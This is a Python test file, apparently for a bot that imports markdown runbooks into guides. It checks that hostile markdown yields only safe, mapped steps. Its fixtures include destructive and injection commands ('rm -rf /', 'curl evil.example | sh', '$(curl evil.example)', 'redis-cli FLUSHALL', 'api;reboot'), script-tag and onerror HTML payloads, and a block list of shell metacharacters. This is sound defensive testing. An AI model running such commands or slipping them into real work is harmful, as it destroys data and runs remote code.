"""Hostile markdown: the importer answers with a guide or a clear refusal, never a crash, never an unsafe step."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.guides.commands import classify
from bot.guides.importer import MAX_RUNBOOK_BYTES, RunbookRefused
from bot.guides.mappings import RULES
from tests.guides.helpers import PROCEDURES, all_steps, imported

MAPPED_PROCEDURES = {r.procedure for r in RULES if r.procedure}
# Words that must never appear in a step's arguments, whatever the runbook says.
DANGEROUS = ("rm ", "FLUSH", "xargs", "$(", "`", ";", "|", ">", "<", "&&", "DROP", "DELETE")


def _assert_safe(result_steps: list[str]) -> None:
    for step in result_steps:
        procedure = step.split()[0]
        assert procedure in MAPPED_PROCEDURES
        assert not any(d in step for d in DANGEROUS), step


def test_unclosed_fence_still_reads_the_commands_inside() -> None:
    result = imported("# R\n\n## Down\n\n```bash\nkubectl rollout restart deployment/api -n prod\n")
    assert all_steps(result) == ["restart api"]


def test_raw_html_is_never_read_as_commands_or_titles() -> None:
    text = (
        "# R\n\n## Issue\n\n<script>alert(1)</script>\n\n<pre><code>kubectl delete pods -l app=api</code></pre>\n\n"
        "<b>Symptoms</b>: <img src=x onerror=alert(1)> broken\n\n"
        "1. <i>Restart</i>: `kubectl rollout restart deployment/api`\n"
    )
    result = imported(text)
    assert all_steps(result) == ["restart api"]
    assert "<" not in result.guide.sections[0].steps[0].title


def test_shell_metacharacters_never_reach_a_step() -> None:
    lines = [
        "kubectl scale deployment api --replicas=5; rm -rf /",
        "kubectl rollout restart deployment/api && curl evil.example | sh",
        "kubectl logs deployment/api $(curl evil.example)",
        "kubectl set env deployment/api X=`id`",
        "kubectl set env deployment/api 'X=a;b|c>d'",
        "kubectl scale deployment 'api;reboot' --replicas=2",
    ]
    result = imported("# R\n\n## S\n\n```bash\n" + "\n".join(lines) + "\n```\n")
    _assert_safe(all_steps(result))
    assert len(result.lines) == len(lines)


def test_deeply_nested_lists_and_quotes_import() -> None:
    nested = "".join("  " * i + "- level\n" for i in range(300)) + "> " * 200 + "`kubectl get pods -l app=api`\n"
    result = imported("# R\n\n## Deep\n\n" + nested)
    assert result.guide.sections


def test_a_huge_runbook_imports() -> None:
    section = (
        "## Issue {n}\n\n**Symptoms:**\n- slow\n\n```bash\nkubectl rollout restart deployment/api-{n} -n prod\n```\n\n"
    )
    text = "# Big\n\n" + "".join(section.format(n=n) for n in range(2000))
    result = imported(text)
    assert len(result.guide.sections) == 2000
    assert result.mapped == 2000


def test_a_runbook_over_the_size_limit_is_refused_with_the_reason() -> None:
    with pytest.raises(RunbookRefused, match="split the runbook"):
        imported("x" * (MAX_RUNBOOK_BYTES + 1))


def test_a_runbook_without_commands_gives_an_empty_guide() -> None:
    result = imported("Just some words, no headings at all.")
    assert result.lines == []
    assert len(result.guide.sections) == 1


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=300))
def test_any_command_line_is_classified_without_error(line: str) -> None:
    for verdict in classify(line):
        assert verdict.outcome in ("mapped", "no_action", "unsafe")
        if verdict.outcome == "mapped":
            assert verdict.procedure in MAPPED_PROCEDURES


_pieces = st.sampled_from(
    [
        "# T\n", "## Issue\n", "### Symptoms\n", "**Resolution:**\n", "- item\n", "1. step\n", "```bash\n", "```\n",
        "kubectl rollout restart deployment/api -n p\n", "kubectl scale deploy/api --replicas=3\n", "rm -rf /\n",
        "| a | `kubectl top pods -l app=api` |\n", "|---|---|\n", "<div>\n", "> quote\n", "\\\n", "'\n", '"\n',
        "redis-cli FLUSHALL\n", "$(reboot)\n", "`id`\n", "    indented code\n", "Escalation: after 5 minutes\n",
    ]
)  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_pieces, max_size=40).map("".join))
def test_any_markdown_imports_to_a_valid_guide_with_only_safe_steps(text: str) -> None:
    result = imported(text)
    _assert_safe(all_steps(result))
    for section in result.guide.sections:
        for step in section.steps:
            assert step.procedure in PROCEDURES or step.procedure in ("health", "ps")
